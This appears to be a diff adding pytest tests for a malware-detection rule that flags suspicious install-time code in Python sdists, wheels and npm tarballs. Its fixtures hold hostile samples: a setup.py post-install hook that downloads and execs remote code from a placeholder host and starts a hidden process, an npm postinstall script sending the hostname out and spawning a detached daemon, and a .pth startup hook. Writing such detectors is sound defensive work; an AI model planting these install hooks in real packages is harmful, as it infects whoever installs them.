@@ -1,0 +1,96 @@
+from __future__ import annotations
+
+from tests.analysis.builders import npm_tarball, run_rule, sdist, wheel
+from threatfeed.analysis import Engine
+from threatfeed.analysis.rules.install import suspicious_setup_commands_rule
+
+DROPPER_SETUP = """
+import subprocess
+import urllib.request as ur
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        payload = ur.urlopen("https://files.example.net/stage2").read()
+        exec(ur.urlopen("https://files.example.net/stage3").read())
+        subprocess.Popen(["helper.exe"], creationflags=0x08000000)
+
+
+setup(name="tidy-strings", version="0.4.0", cmdclass={"install": PostInstall})
+"""
+
+VERSION_READING_SETUP = """
+from setuptools import setup
+about = {}
+exec(open("tidy_strings/__about__.py").read(), about)
+setup(name="tidy-strings", version=about["__version__"])
+"""
+
+
+def _types(evidence: list[dict[str, str]]) -> set[str]:
+    return {item["type"] for item in evidence}
+
+
+def test_setup_py_install_override_and_its_calls(engine: Engine) -> None:
+    evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=DROPPER_SETUP))
+    assert {
+        "install_command_override",
+        "network",
+        "remote_code_execution",
+        "background_process",
+    } <= _types(evidence)
+    assert all(set(item) == {"code", "type"} for item in evidence)
+
+
+def test_setup_py_reading_its_own_version_file_is_not_suspicious(engine: Engine) -> None:
+    assert (
+        run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=VERSION_READING_SETUP))
+        is None
+    )
+
+
+def test_renamed_and_hidden_imports_are_resolved(engine: Engine) -> None:
+    setup_py = (
+        "from os import system as s\n"
+        "s('id')\n"
+        "__import__('subprocess').call(['uname'])\n"
+        "from setuptools import setup\nsetup(name='x', version='1')\n"
+    )
+    evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py))
+    assert [item["type"] for item in evidence] == ["process", "process"]
+
+
+def test_code_outside_install_time_is_left_to_other_rules(engine: Engine) -> None:
+    archive = sdist({"tidy_strings/cli.py": "import os\nos.system('ls')\n"})
+    assert run_rule(engine, suspicious_setup_commands_rule, archive) is None
+
+
+def test_executable_pth_file_is_install_time(engine: Engine) -> None:
+    archive = wheel({"zz_startup.pth": "import os; os.system('id')\n"})
+    assert {"startup_hook", "process"} <= _types(
+        run_rule(engine, suspicious_setup_commands_rule, archive)
+    )
+
+
+def test_npm_install_script_is_parsed_with_tree_sitter(engine: Engine) -> None:
+    script = (
+        "const { spawn } = require('child_process');\n"
+        "const https = require('https');\n"
+        "const os = require('os');\n"
+        "const env = process.env;\n"
+        "https.get('https://x.example.net/?h=' + os.hostname());\n"
+        "spawn('node', ['daemon.js'], { detached: true, stdio: 'ignore' });\n"
+        "const body = JSON.stringify(env);\n"
+    )
+    archive = npm_tarball({"install.js": script}, scripts={"postinstall": "node install.js"})
+    evidence = run_rule(engine, suspicious_setup_commands_rule, archive)
+    assert {"network", "recon", "background_process", "environment"} <= _types(evidence)
+
+
+def test_npm_script_not_run_by_a_hook_is_not_install_time(engine: Engine) -> None:
+    script = "require('child_process').exec('ls');\n"
+    archive = npm_tarball({"tools/release.js": script})
+    assert run_rule(engine, suspicious_setup_commands_rule, archive) is None
